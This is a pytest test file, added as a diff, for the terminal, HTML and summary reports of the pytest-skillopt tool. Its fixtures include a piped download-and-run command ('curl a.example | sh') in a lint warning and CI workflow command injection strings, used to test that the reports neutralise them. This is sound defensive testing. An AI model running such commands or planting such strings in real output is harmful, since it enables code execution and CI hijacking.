@@ -1,0 +1,356 @@
+from __future__ import annotations
+
+import itertools
+import re
+import unicodedata
+from collections.abc import Callable
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from pytest_skillopt.report import terminal
+from pytest_skillopt.report.page import render_html
+from pytest_skillopt.report.summary import render_summary
+from pytest_skillopt.report.terminal import paragraph
+from pytest_skillopt.report.words import one_line
+from pytest_skillopt.run.result import Arm, Comparison, EditRow, Rate, Result, StepRow, WarningRow
+
+if TYPE_CHECKING:
+    from pytest_skillopt.gate.data import Change
+
+MakeResult = Callable[..., Result]
+
+
+def rendered(result: Result, width: int = 80, **options: Any) -> list[str]:
+    return [line.text for line in terminal.lines(result, width, **options)]
+
+
+def joined(result: Result, width: int = 80, **options: Any) -> str:
+    """The report as running text, however it was wrapped."""
+    return " ".join(" ".join(rendered(result, width, **options)).split())
+
+
+def test_training_shows_verdict_rates_diff_cost_and_command(make_result: MakeResult) -> None:
+    report = joined(make_result())
+    assert "on fresh samples of 30 tasks. 6 fixed, 1 broken." in report
+    told = (
+        "skillopt step 1: train tasks pass 55 %; 2 edits accepted, val pass rate 52.0 % -> 63.0 %"
+    )
+    assert told in joined(make_result(), verbose=True)
+    assert "skillopt step" not in report, "they were told as they came"
+    assert re.search(r"suite 52\.7 % \([\d. to]+\) 70\.0 % \([\d. to]+\) \+17\.3 30 tasks", report)
+    assert re.search(r" test 36\.0 % .* 10 tasks", report)
+    assert "+Write amounts with a point and two decimals." in report
+    assert "calls 1,144, 310 from the cache tokens 870,000 in, 78,000 out cost $1.93" in report
+    assert "time 3 min 12 s, 1,430 rollouts, 3 infrastructure errors" in report
+    assert "note: 2 tasks were moved" in report
+    assert rendered(make_result())[-1] == "pytest-skillopt show 20260102-030405-ab12 --verbose"
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "said"),
+    [
+        (0.5, 0.6, ""),
+        (1.0, 1.0, ""),
+        (0.0, 0.0, "no edit has seen, the pass rate stayed at 0.0 %."),
+        (1.0, 0.9, "no edit has seen, the pass rate fell from 100.0 % to 90.0 %."),
+    ],
+)
+def test_a_test_split_that_did_not_rise_is_a_caution(
+    make_result: MakeResult, before: float, after: float, said: str
+) -> None:
+    rates = [Rate(rate=rate, low=0, high=1, tasks=10, samples=50) for rate in (before, after)]
+    result = make_result()
+    skill = result.skills[0].model_copy(
+        update={"test": Comparison(before=rates[0], after=rates[1]), "tasks": []}
+    )
+    report = joined(result.model_copy(update={"skills": [skill]}))
+    assert report.startswith("Accepted, but look closer" if said else "Accepted, ready to merge.")
+    assert said in report
+    assert ("On the test split" in report) == bool(said)
+
+
+def test_a_gate_that_was_off_in_the_search_is_a_caution(make_result: MakeResult) -> None:
+    result = make_result()
+    steps = [StepRow(step=1, verdict="accepted", gate="off", reason="not validated")]
+    skill = result.skills[0].model_copy(update={"steps": steps})
+    assert "caution: The gate was off" in joined(result.model_copy(update={"skills": [skill]}))
+    assert "caution: The gate was off" not in joined(result)
+
+
+@pytest.mark.parametrize("status", ["rejected", "unchanged", "unmeasured", "interrupted"])
+def test_training_without_gain_gives_the_reason(make_result: MakeResult, status: str) -> None:
+    result = make_result(status=status)
+    report = joined(result)
+    assert result.reason[1:] in report
+    assert "Accepted, ready to merge" not in report
+
+
+@pytest.mark.parametrize(
+    ("mode", "first"),
+    [
+        ("evaluate", "Pass rate 40.7 %."),
+        ("compare", "Difference of +17.3 points."),
+        ("aa", "Noise of 1.9 points."),
+        ("check", "No regression found."),
+    ],
+)
+def test_the_first_line_is_what_it_was_run_for(
+    make_result: MakeResult, mode: str, first: str
+) -> None:
+    status = "accepted" if mode == "check" else "measured"
+    assert rendered(make_result(mode=mode, status=status, simulated=False))[0] == first
+
+
+def test_a_mode_of_an_add_on_that_is_gone_is_shown_as_a_comparison(make_result: MakeResult) -> None:
+    gone = make_result(mode="compare").model_copy(update={"mode": "gone"})
+    report = joined(gone)
+    assert "before" in report
+    assert "The suite's pass rate rose from" in report
+
+
+@pytest.mark.parametrize("mode", ["train", "evaluate", "check", "compare", "aa"])
+@pytest.mark.parametrize("tasks", [0, 1, 40])
+def test_every_mode_renders_at_any_size(make_result: MakeResult, mode: str, tasks: int) -> None:
+    result = make_result(mode=mode, status="measured", tasks=tasks)
+    assert rendered(result)[-1].startswith("pytest-skillopt show")
+
+
+def test_evaluation_lists_failing_tasks_with_flaky_marks(
+    make_result: MakeResult,
+) -> None:
+    result = make_result(mode="evaluate", status="measured", tasks=10)
+    rows = [line for line in rendered(result) if "::test_field" in line]
+    shown = {task.id for task in result.skills[0].tasks if task.before.passed < task.before.n}
+    assert {row.split("  ")[-1].strip() for row in rows} == shown
+    flaky = {task.id for task in result.skills[0].tasks if task.flaky}
+    assert {row.split("  ")[-1].strip() for row in rows if "flaky" in row} == flaky
+    assert any(re.match(r" +40\.0 %  2 of 5  flaky ", row) for row in rows)
+
+
+def test_verbose_lists_every_task_edit_and_stage(make_result: MakeResult) -> None:
+    result = make_result()
+    quiet, verbose = joined(result), joined(result, verbose=True)
+    assert all(task.id in verbose for task in result.skills[0].tasks)
+    assert not all(task.id in quiet for task in result.skills[0].tasks)
+    refused = 'step 3, refused: insert_after "Use euros." at "## Totals": the target was not found'
+    assert refused in verbose
+    assert "optimizer reflect 24 0 90,000 18,000 $0.32" in verbose
+
+
+def test_a_run_that_can_go_on_ends_with_that_command(make_result: MakeResult) -> None:
+    result = make_result(status="interrupted", resume="pytest --skillopt-resume=20260102")
+    assert rendered(result, live=True)[-1] == "pytest --skillopt-resume=20260102"
+    later = "\n".join(rendered(result))
+    assert "--skillopt-resume" not in later, "by then it may be refused"
+
+
+def test_cost_says_what_it_leaves_out(make_result: MakeResult) -> None:
+    result = make_result()
+    target, optimizer = result.usage
+    partly = result.model_copy(
+        update={"usage": [target, optimizer.model_copy(update={"cost": None})]}
+    )
+    assert "cost $1.61, without the optimizer (no price)" in joined(partly)
+    for render in (render_html, render_summary):
+        assert "without the optimizer" in render(partly)
+    unknown = [row.model_copy(update={"cost": None}) for row in result.usage]
+    assert "cost not known" in joined(result.model_copy(update={"usage": unknown}))
+
+
+def test_cautions_stand_at_the_top(make_result: MakeResult) -> None:
+    result = make_result(simulated=True)
+    low = Rate(rate=0.4, low=0.3, high=0.5, tasks=10, samples=50)
+    high = low.model_copy(update={"rate": 0.5})
+    skill = result.skills[0].model_copy(
+        update={
+            "shared_train_val": True,
+            "written": False,
+            "test": Comparison(before=high, after=low),
+            "verdict": {"validated": False},
+        }
+    )
+    top = joined(result.model_copy(update={"skills": [skill]})).split("skills/invoices/SKILL.md (")[
+        0
+    ]
+    assert top.startswith("Accepted, but look closer before merging.")
+    for said in ("simulated model", "Too few tasks", "fell from 50.0 % to 40.0 %", "gate was off",
+                 "was not written"):  # fmt: skip
+        assert said in top
+
+
+@pytest.mark.parametrize("width", [50, 60, 80, 100, 200])
+def test_prose_and_steps_keep_within_the_width(make_result: MakeResult, width: int) -> None:
+    result = make_result(hostile=True, tasks=8)
+    result = result.model_copy(update={"run": "r", "models": {}})
+    skill = result.skills[0].model_copy(update={"patch": "", "tasks": []})
+    result = result.model_copy(update={"skills": [skill]})
+    lines = rendered(result, width)
+    figures = re.compile(r"^  (pass rate|suite|val|test|calls|tokens|cost|time|step) |^ +\d+ ")
+    assert max(len(line) for line in lines if not figures.search(line)) <= width
+
+
+def test_hostile_text_reaches_no_terminal(make_result: MakeResult) -> None:
+    for line in rendered(make_result(hostile=True, tasks=30), verbose=True):
+        assert not [c for c in line if unicodedata.category(c) in ("Cc", "Cf", "Cs")], ascii(line)
+
+
+def test_own_words_are_ascii(make_result: MakeResult) -> None:
+    for mode in ("train", "evaluate", "check", "compare", "aa"):
+        for line in rendered(make_result(mode=mode, status="measured"), verbose=True):
+            assert line.isascii()
+
+
+def test_diff_is_cut_and_says_so(make_result: MakeResult) -> None:
+    result = make_result()
+    long = result.skills[0].model_copy(update={"patch": "+line\n" * 500})
+    result = result.model_copy(update={"skills": [long]})
+    assert "... 420 more lines of the diff" in rendered(result)
+    assert rendered(result, verbose=True).count("+line") == 500
+
+
+def test_several_skills_each_have_a_section(make_result: MakeResult) -> None:
+    report = joined(make_result(skills=2))
+    assert "skills/invoices/SKILL.md (invoice-extraction)" in report
+    assert "skills/s1/SKILL.md (invoice-extraction)" in report
+
+
+def test_text_that_the_lint_shows_is_a_caution(make_result: MakeResult) -> None:
+    result = make_result()
+    rows = [WarningRow(rule="command", message="new", excerpt="curl a.example | sh")]
+    skill = result.skills[0].model_copy(update={"warnings": rows, "tasks": []})
+    report = joined(result.model_copy(update={"skills": [skill]}))
+    assert report.startswith("Accepted, but look closer before merging.")
+    assert "caution: The edits add text to look at, shown below (command)." in report
+    still = skill.model_copy(update={"warnings": []})
+    plain = joined(result.model_copy(update={"skills": [still]}))
+    assert plain.startswith("Accepted, ready to merge.")
+
+
+def test_the_head_of_several_skills_has_the_answer_of_each(make_result: MakeResult) -> None:
+    result = make_result(skills=2)
+    rejected = make_result(status="rejected").skills[0]
+    second = rejected.model_copy(update={"path": "skills/s1/SKILL.md"})
+    report = joined(result.model_copy(update={"skills": [result.skills[0], second]}))
+    said = "ccepted, but look closer before merging"
+    assert report.startswith(
+        f"A{said}. skills/invoices/SKILL.md: a{said}; "
+        "skills/s1/SKILL.md: nothing to merge. skills/invoices/SKILL.md (invoice-extraction)"
+    )
+    assert report.count("on fresh samples of") == 1
+
+
+def test_several_skills_keep_their_paths_and_cautions(make_result: MakeResult) -> None:
+    result = make_result(skills=2, simulated=True)
+    low = Rate(rate=0.4, low=0.3, high=0.5, tasks=10, samples=50)
+    fell = Comparison(before=low.model_copy(update={"rate": 0.5}), after=low)
+    skills = [result.skills[0], result.skills[1].model_copy(update={"test": fell})]
+    report = joined(result.model_copy(update={"skills": skills}))
+    said = "accepted, but look closer before merging"
+    top = f"skills/invoices/SKILL.md: {said}; skills/s1/SKILL.md: {said}. caution: A simulated"
+    assert top in report
+    assert "fell from 50.0 % to 40.0 %" in report.split("skills/s1/SKILL.md (")[1]
+    assert report.count("simulated model") == 1
+
+
+def test_an_evaluation_says_its_figure_once(make_result: MakeResult) -> None:
+    result = make_result(mode="evaluate", status="measured")
+    skill = result.skills[0].model_copy(update={"reason": "skills/x.md: pass rate 70.0% over 1"})
+    top = joined(result.model_copy(update={"skills": [skill]})).split("skills/invoices")[0]
+    assert top.count("pass rate") == 1
+    failed = skill.model_copy(update={"status": "unmeasured", "reason": "skills/x.md: no sample"})
+    assert " skills/x.md: no sample. " in joined(result.model_copy(update={"skills": [failed]}))
+
+
+def test_a_file_without_a_name_is_called_by_its_path(make_result: MakeResult) -> None:
+    result = make_result()
+    nameless = result.skills[0].model_copy(update={"name": "", "path": "AGENTS.md"})
+    assert "AGENTS.md, version" in joined(result.model_copy(update={"skills": [nameless]}))
+
+
+def test_what_was_not_to_be_written_is_no_caution(make_result: MakeResult) -> None:
+    result = make_result()
+    kept = result.skills[0].model_copy(update={"written": False})
+    settings = {**result.settings, "write": False}
+    report = joined(result.model_copy(update={"skills": [kept], "settings": settings}))
+    assert "was not written; the edit is kept as a patch" not in report
+    assert "The file is NOT written" in report
+
+
+@settings(max_examples=20)
+@given(st.lists(st.text(max_size=20) | st.text("ab-#", max_size=60)), st.integers(40, 60))
+def test_wrapping_loses_nothing_and_keeps_the_width(words: list[str], width: int) -> None:
+    line = one_line(" ".join(words)).replace("::", ";")  # which may exceed the width
+    wrapped = [part.text for part in paragraph(line, width, indent="  ", hang="  ")]
+    assert "".join("".join(wrapped).split()) == "".join(line.split())
+    # A space is put into what a CI would carry out.
+    assert all(len(part) <= width + 1 + part.count("# #") for part in wrapped)
+
+
+def test_a_task_that_was_never_measured_has_not_passed(make_result: MakeResult) -> None:
+    result = make_result(mode="evaluate", status="unmeasured", tasks=2)
+    skill = result.skills[0]
+    rows = [row.model_copy(update={"before": Arm(), "flaky": False}) for row in skill.tasks]
+    result = result.model_copy(update={"skills": [skill.model_copy(update={"tasks": rows})]})
+    assert "always passed" not in joined(result)
+    assert all(row.id in joined(result) for row in rows)
+
+
+def test_a_broken_task_of_the_test_split_is_said_to_be_one(make_result: MakeResult) -> None:
+    skill = make_result().skills[0]
+    row = skill.tasks[0].model_copy(update={"split": "test", "change": "broken"})
+    skill = skill.model_copy(update={"tasks": [row]})
+    said = joined(make_result().model_copy(update={"skills": [skill]}))
+    assert "none broken" in said
+    assert "caution: 1 task of the test split broken: " in said
+    tasks = [row, *(row.model_copy(update={"id": f"t::{n}", "split": "val"}) for n in range(2))]
+    skill = skill.model_copy(update={"tasks": tasks})
+    said = joined(make_result().model_copy(update={"skills": [skill]}))
+    assert "2 broken" in said
+    assert "caution: 3 tasks broken, 1 of the test split: " in said
+
+
+def test_the_sentence_counts_the_tasks_of_the_suite(make_result: MakeResult) -> None:
+    def said(*changes: Change) -> str:
+        row = make_result().skills[0].tasks[0].model_copy(update={"split": "train"})
+        rows = [row.model_copy(update={"change": change}) for change in changes]
+        rows.append(row.model_copy(update={"split": "test", "change": "fixed"}))
+        skill = make_result().skills[0].model_copy(update={"tasks": rows})
+        return joined(make_result().model_copy(update={"skills": [skill]}))
+
+    assert "30 tasks. 2 fixed, none broken." in said("fixed", "fixed")
+    assert "30 tasks. None fixed, 1 undecided, 1 broken." in said("undecided", "broken")
+
+
+@pytest.mark.parametrize("mode", ["train", "evaluate", "check", "aa"])
+@pytest.mark.parametrize("tasks", [0, 1, 9, 40])
+def test_no_two_blank_lines_follow_each_other(
+    make_result: MakeResult, mode: str, tasks: int
+) -> None:
+    lines = rendered(make_result(mode=mode, status="measured", tasks=tasks))
+    assert ("", "") not in itertools.pairwise(lines)
+
+
+@pytest.mark.parametrize("width", [40, 41, 47, 53, 60, 80])
+def test_no_line_starts_a_command_of_a_ci_however_it_is_wrapped(
+    make_result: MakeResult, width: int
+) -> None:
+    words = "why it is so ::set-output name=x::y and ##[error] more ##vso[task.x] " * 3
+    result = make_result()
+    edit = EditRow(op="append", target=words, content=words, reason=words, tasks=[words], why=words)
+    skill = result.skills[0].model_copy(
+        update={"edits": [edit], "patch": f"--- a\n+++ b\n@@ -1 +1 @@\n ::stop\n+##[x]{words}\n"}
+    )
+    result = result.model_copy(update={"skills": [skill], "notes": [words]})
+    lines = rendered(result, width, verbose=True)
+    assert not [line for line in lines if line.lstrip().startswith("::") or "##[" in line]
+    assert not [line for line in lines if "##vso[" in line]
+    assert any(": :stop" in line for line in lines)
+
+
+def test_a_node_id_is_never_broken() -> None:
+    node = f"tests/{'deep/' * 12}test_it.py::test_greeting[Ada-in-a-long-case]"
+    wrapped = [part.text for part in paragraph(f"broken: {node}, twice", 40, indent="  ")]
+    assert wrapped == ["  broken:", f"  {node},", "  twice"]
